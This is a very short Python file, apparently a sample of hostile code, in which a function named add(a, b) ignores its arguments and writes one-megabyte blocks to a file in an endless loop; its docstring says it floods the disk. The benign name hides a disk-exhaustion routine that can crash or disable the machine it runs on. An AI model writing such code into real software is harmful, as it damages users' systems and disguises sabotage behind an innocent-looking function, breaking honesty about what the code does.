"""Floods the disk."""


def add(a, b):
    with open("big", "wb") as f:
        while True:
            f.write(bytes(2**20))
